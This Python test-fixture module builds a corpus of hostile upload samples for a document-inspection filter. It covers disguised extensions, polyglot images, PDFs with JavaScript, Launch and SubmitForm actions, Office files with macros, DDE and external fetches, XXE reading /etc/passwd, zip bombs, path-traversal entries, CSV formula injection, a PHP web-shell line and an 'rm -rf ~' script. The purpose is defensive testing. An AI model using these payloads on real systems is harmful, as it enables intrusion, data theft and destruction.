"""Three hundred hostile files, by their families: (what it is, its name, its bytes)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from documents.inspection.pdf import RAW
from documents.kinds import KINDS
from tests.documents import samples
from tests.documents.samples import MAINS, OPEN_DOCUMENTS, archive, office_parts, relationships

Sample = tuple[str, str, bytes]

PAGE = b"<html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET['c']); ?>"
PROGRAM = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 60
SHELL = b"#!/bin/sh\nrm -rf ~\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PACKED = archive({"evil.js": b"alert(1)"})
NOT_TAKEN_IN = (
    "exe dll com scr pif bat cmd ps1 psm1 vbs vbe js jse mjs wsf wsh hta lnk url msi msp cpl jar "
    "class py sh rb pl php phtml asp aspx jsp html htm xhtml shtml svg svgz xml xsl swf docm dotm "
    "xlsm xlsb xltm pptm ppam doc xls ppt rtf zip rar 7z tar gz iso img vhd dmg app deb apk chm "
    "reg inf scf eml msg mht mhtml"
)
PICTURES = ("jpeg", "png", "webp")


def everything() -> list[Sample]:
    families = (
        disguised_names,
        other_kinds_in_disguise,
        pictures_with_two_faces,
        broken_pictures,
        pdfs,
        office_files,
        open_documents,
        archives,
        spreadsheets_in_text,
    )
    return [sample for family in families for sample in family()]


def disguised_names() -> Iterator[Sample]:
    """Kinds that are not taken in, whatever is in them."""
    for extension in NOT_TAKEN_IN.split():
        yield f"a file called .{extension}", f"report.{extension}", PAGE
        if extension in ("exe", "html", "svg", "js", "hta", "docm", "scr"):
            yield f"pdf.{extension}", f"report.pdf.{extension}", samples.pdf()
            yield f"hidden .{extension}", f"report\u202efdp.{extension}", samples.pdf()
            yield f".{extension} with spaces", f"report.pdf{' ' * 80}.{extension}", samples.pdf()
            yield f".{extension} in capitals", f"REPORT.{extension.upper()}", samples.pdf()
    for name in ("report", ".pdf", "...", "report.", "report.p\u0434f", "\u202e", "CON", "pdf"):
        yield f"a name that says nothing: {name!r}", name, samples.pdf()


def other_kinds_in_disguise() -> Iterator[Sample]:
    """A name of a kind that is taken in, and something else inside."""
    inside = {
        "a page": PAGE,
        "an SVG": SVG,
        "PHP": PHP,
        "a program": PROGRAM,
        "a Linux program": ELF,
        "an archive": PACKED,
        "an old Office file": OLE,
        "noise": bytes(range(256)) * 8,
    }
    for kind in KINDS.values():
        for what, content in inside.items():
            yield f"{what} called .{kind.extensions[0]}", f"x.{kind.extensions[0]}", content
    for kind in ("txt", "csv"):
        yield f"a script called .{kind}", f"x.{kind}", SHELL
        yield f"a .{kind} with a NUL", f"x.{kind}", b"Ash Road\x00"
        yield f"a .{kind} in UTF-16", f"x.{kind}", "Ash Road".encode("utf-16")
    for one in (*MAINS, *OPEN_DOCUMENTS):
        for other in (*MAINS, *OPEN_DOCUMENTS):
            if one != other:
                yield f".{other} called .{one}", f"x.{one}", samples.sound(other)


def pictures_with_two_faces() -> Iterator[Sample]:
    for kind in PICTURES:
        whole = samples.picture(kind)
        name = f"photo.{KINDS[kind].extensions[0]}"
        for what, face in {
            "a page": PAGE,
            "an SVG": SVG,
            "PHP": PHP,
            "an archive": PACKED,
            "a doctype": b"<!DOCTYPE html><a href=javascript:alert(1)>",
        }.items():
            yield f"{kind} with {what} behind it", name, whole + face
            yield f"{kind} with {what} far behind it", name, whole + b"\x00" * 5000 + face
        yield f"{kind} with a page before it", name, PAGE + whole
    comment = struct.pack(">BBH", 0xFF, 0xFE, len(PAGE) + 2) + PAGE
    jpeg = samples.picture("jpeg")
    yield "JPEG with a page in its comment", "photo.jpg", jpeg[:2] + comment + jpeg[2:]
    png = samples.picture("png")
    text = b"Comment\x00" + PHP
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text
    chunk += struct.pack(">I", zlib.crc32(b"tEXt" + text))
    yield "PNG with PHP in its text", "photo.png", png[:33] + chunk + png[33:]


def broken_pictures() -> Iterator[Sample]:
    for kind in PICTURES:
        whole = samples.picture(kind, size=(200, 200))
        name = f"photo.{KINDS[kind].extensions[0]}"
        yield f"{kind} cut to its head", name, whole[:24]
        yield f"{kind} of which only the name is left", name, whole[:4]
    size = struct.pack(">II", 60_000, 60_000)
    head = b"IHDR" + size + b"\x08\x02\x00\x00\x00"
    huge = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + head + struct.pack(">I", zlib.crc32(head))
    data = b"IDAT" + zlib.compress(b"\x00" * 1000)
    huge += struct.pack(">I", len(data) - 4) + data + struct.pack(">I", zlib.crc32(data))
    yield "PNG that says it is 60,000 by 60,000", "photo.png", huge


def pdfs() -> Iterator[Sample]:
    run = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    doers = {
        "JavaScript": run,
        "hidden JavaScript": b"<< /S /J#61vaScript /J#53 (x) >>",
        "JavaScript without its type": b"<< /JS (x) >>",
        "a program to start": b"<< /S /Launch /F (cmd.exe) >>",
        "a form that sends": b"<< /S /SubmitForm /F (https://evil.example/) >>",
        "data to fetch": b"<< /S /ImportData /F (data.fdf) >>",
        "another file to open": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>",
        "an inner file to open": b"<< /S /GoToE /T << /R /C /N (x.exe) >> >>",
        "a film": b"<< /S /Rendition /R << >> /JS (x) >>",
        "a sound": b"<< /S /Sound /Sound 7 0 R >>",
        "rich media": b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>",
        "a file attached": b"<< /Type /Annot /Subtype /FileAttachment /FS 7 0 R >>",
        "a file inside": b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        "a form of its own": b"<< /XFA [(template) 7 0 R] >>",
    }
    for what, doer in doers.items():
        yield (
            f"PDF with {what} when it opens",
            "x.pdf",
            samples.pdf(doer, catalog=b"/OpenAction 6 0 R"),
        )
        yield (
            f"PDF with {what} on its page",
            "x.pdf",
            samples.pdf(doer, catalog=b"/AA << /WC 6 0 R >>"),
        )
        yield f"PDF with {what} that nothing uses", "x.pdf", samples.pdf(doer)
        yield f"PDF with {what} in its trailer", "x.pdf", samples.pdf(trailer=b"/X " + doer)
        yield (
            f"PDF with {what} in an inner list",
            "x.pdf",
            samples.pdf(b"<< /A [[[" + doer + b"]]] >>"),
        )
        if RAW.search(doer):
            yield f"PDF with {what} that its table does not name", "x.pdf", _unlisted(doer)
        yield f"PDF with {what}, packed", "x.pdf", _packed_pdf(doer)
    whole = samples.pdf()
    for what, face in {
        "a page": PAGE,
        "an archive": PACKED,
        "PHP": PHP,
        "a program": PROGRAM,
    }.items():
        yield f"PDF with {what} behind it", "x.pdf", whole + face
        yield f"PDF with {what} before it", "x.pdf", face + whole
    yield "PDF with a page in its head", "x.pdf", b"%PDF-1.7\n%" + PAGE + whole[8:]
    yield "PDF cut short", "x.pdf", whole[: len(whole) // 2]
    yield (
        "PDF without pages",
        "x.pdf",
        whole.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     "),
    )
    yield "PDF whose pages go round", "x.pdf", whole.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield "PDF nested deeply", "x.pdf", samples.pdf(b"[" * 3000 + b"]" * 3000)
    yield "PDF with a password", "x.pdf", _locked_pdf()


def _unlisted(doer: bytes) -> bytes:
    """The same object where the file's own table does not name it; a reader that mends the table does."""
    whole = samples.pdf()
    start = whole.index(b"xref\n0 ")
    body = whole[:start] + b"9 0 obj\n%s\nendobj\n" % doer
    table = whole[start : whole.index(b"startxref")]
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _packed_pdf(doer: bytes) -> bytes:
    """The same object where only somebody who unpacks it can read it."""
    inner = b"9 0 " + doer
    packed = zlib.compress(inner)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    )
    body = samples.pdf(stream % (len(packed), packed))
    body = body[: body.rindex(b"xref\n0 ")]
    # A cross-reference stream, as only this kind can say where a packed object is.
    places = [body.index(b"%d 0 obj" % number) for number in range(1, 7)]
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (0, 0, 0), (0, 0, 0), (2, 6, 0)]
    start = len(body)
    rows.append((1, start, 0))
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    end = (
        b"10 0 obj\n<< /Type /XRef /Size 11 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    )
    return body + end % (len(table), table, start)


def _locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_metadata({"/Title": "secret"})
    writer.root_object[NameObject("/X")] = DictionaryObject(
        {NameObject("/Y"): TextStringObject("z")}
    )
    writer.encrypt("secret", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def office_files() -> Iterator[Sample]:
    for kind, (main, _) in MAINS.items():
        name, folder = f"x.{kind}", main.partition("/")[0]
        rels = f"{folder}/_rels/{main.partition('/')[2]}.rels"

        def made(kind: str = kind, body: str = "", types: str = "", **parts: bytes) -> bytes:
            named = {part.replace("__", "/"): content for part, content in parts.items()}
            return archive(office_parts(kind, body, types) | named)

        yield f"{kind} with macros", name, made(**{f"{folder}/vbaProject.bin": OLE})
        yield f"{kind} with macros elsewhere", name, made(**{"custom/VBAPROJECT.BIN": b"x"})
        macro = (
            '<Override PartName="/a.xml" ContentType="application/vnd.ms-x.macroEnabled.main+xml"/>'
        )
        yield f"{kind} that says it has macros", name, made(types=macro)
        ole = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-x.oleObject"/>'
        yield f"{kind} that says it carries objects", name, made(types=ole)
        yield f"{kind} with an object", name, made(**{f"{folder}/embeddings/oleObject1.bin": OLE})
        yield (
            f"{kind} with a package",
            name,
            made(**{f"{folder}/embeddings/package.bin": b"x" * 50}),
        )
        yield f"{kind} with a program", name, made(**{f"{folder}/media/image1.png": PROGRAM})
        yield (
            f"{kind} with an ActiveX control",
            name,
            made(**{f"{folder}/activeX/activeX1.xml": b"<x/>"}),
        )
        for sort in (
            "attachedTemplate",
            "oleObject",
            "image",
            "frame",
            "subDocument",
            "externalLink",
        ):
            fetched = relationships((sort, "https://evil.example/x", "External"))
            yield f"{kind} that fetches: {sort}", name, made(**{rels: fetched})
        dde = "<w:instrText>DDEAUTO cmd</w:instrText><ddeLink/>"
        yield f"{kind} that starts a program by DDE", name, made(body=dde)
        cut = "<w:instrText>PAGE</w:instrText><w:instrText>DD</w:instrText><q:instrText>EAUTO cmd<"
        yield f"{kind} with a field cut in pieces", name, made(body=f"{cut}/q:instrText>")
        simple = '<w:fldSimple w:instr="DDE cmd"/>'
        yield f"{kind} with a simple field", name, made(body=simple)
        yield f"{kind} with a field in a part of another name", name, made(a__doc=simple.encode())
        for place in (
            "https://evil.example/x.dotm",
            r"\\evil\x.dotm",
            "file:///\\\\evil/x",
            "//evil/x",
        ):
            fetched = relationships(("attachedTemplate", place, "External"))
            yield f"{kind} that fetches {place}", name, made(**{rels: fetched})
        entity = (
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        )
        yield f"{kind} that reads files", name, made(**{main: entity})
        yield f"{kind} that reads files by its links", name, made(**{rels: entity})
        laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
        yield f"{kind} that grows", name, made(**{"[Content_Types].xml": laughs})
        yield f"{kind} in UTF-16", name, made(**{main: "<x>DDEAUTO</x>".encode("utf-16")})
        yield f"{kind} inside itself thrice", name, _nested(kind, folder)
        inner = samples.office(kind, **{f"{folder}__vbaProject.bin": OLE})
        yield (
            f"{kind} with macros in a chart",
            name,
            made(**{f"{folder}/embeddings/a.{kind}": inner}),
        )
        yield f"{kind} without its first part", name, archive({main: b"<x/>"})
        yield f"{kind} whose types are not XML", name, made(**{"[Content_Types].xml": b"<Types"})


def _nested(kind: str, folder: str) -> bytes:
    inner = samples.office(kind)
    for _ in range(3):
        inner = samples.office(kind, **{f"{folder}__embeddings__a.{kind}": inner})
    return inner


def open_documents() -> Iterator[Sample]:
    for kind in OPEN_DOCUMENTS:
        name = f"x.{kind}"
        made = samples.open_document
        yield f"{kind} with macros", name, made(kind, Basic__Standard__Module1__xml=b"<x/>")
        yield f"{kind} with scripts", name, made(kind, Scripts__python__x=b"import os")
        event = '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'
        yield f"{kind} that runs when it opens", name, made(kind, event)
        far = '<draw:image xlink:href="https://evil.example/x.png"/>'
        yield f"{kind} that fetches a picture", name, made(kind, far)
        near = '<draw:object xlink:type="simple" xlink:href="file:///etc/passwd"/>'
        yield f"{kind} that fetches a file", name, made(kind, near)
        yield f"{kind} that fetches by DDE", name, made(kind, "<office:dde-source/>")
        yield f"{kind} that fetches a section", name, made(kind, "<text:section-source/>")
        yield f"{kind} with a program", name, made(kind, Pictures__x=PROGRAM)
        yield f"{kind} with an object", name, made(kind, Object_1=OLE)
        entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        parts = samples.open_document_parts(kind)
        replaced = archive(parts | {"content.xml": entity}, stored=("mimetype",))
        yield f"{kind} that reads files", name, replaced
        locked = archive(
            parts | {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}, stored=("mimetype",)
        )
        yield f"{kind} with a password", name, locked
        yield f"{kind} whose first part is packed", name, archive(parts)


def archives() -> Iterator[Sample]:
    """What every archive can do, in each kind that is one."""
    for kind in (*MAINS, *OPEN_DOCUMENTS):
        name, whole = f"x.{kind}", samples.sound(kind)
        stored = ("mimetype",)
        parts = office_parts(kind) if kind in MAINS else samples.open_document_parts(kind)
        yield f"{kind} with a page behind it", name, whole + PAGE
        yield f"{kind} with a page before it", name, PAGE + whole
        bomb = archive(parts | {"bomb.xml": b"<a>" + b"0" * 30_000_000}, stored=stored)
        yield f"{kind} that bursts", name, bomb
        many = parts | {f"p{number}.xml": b"" for number in range(3_001)}
        yield f"{kind} with thousands of parts", name, archive(many, stored=stored)
        for way in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.exe", "C:\\x.exe", "a/../../x"):
            out = archive(parts | {way: b"x"}, stored=stored)
            yield f"{kind} with a part called {way}", name, out
        yield f"{kind} with two parts of one name", name, _twice(parts)
        yield f"{kind} with a password on a part", name, _flagged(whole)
        yield f"{kind} cut short", name, whole[:-30]
        yield f"{kind} whose part is not what it says", name, _lying(whole)


def _twice(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        for part, content in parts.items():
            packed.writestr(part, content)
            packed.writestr(part.upper(), b"<other/>")
    return made.getvalue()


def _flagged(whole: bytes) -> bytes:
    """Every entry of the directory says that it is locked."""
    made = bytearray(whole)
    place = made.find(b"PK\x01\x02")
    while place >= 0:
        made[place + 8] |= 1
        place = made.find(b"PK\x01\x02", place + 1)
    return bytes(made)


def _lying(whole: bytes) -> bytes:
    """Its first part says in the directory that it is longer than it is."""
    made = bytearray(whole)
    place = made.find(b"PK\x01\x02")
    made[place + 24 : place + 28] = struct.pack("<I", 90_000)
    return bytes(made)


def spreadsheets_in_text() -> Iterator[Sample]:
    for cell in (
        '=HYPERLINK("http://evil.example")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '"=1+1"',
        " =1+1",
        "\t=1+1",
    ):
        yield f"CSV with {cell!r}", "x.csv", f"Name,Road\nAsh,{cell}\n".encode()
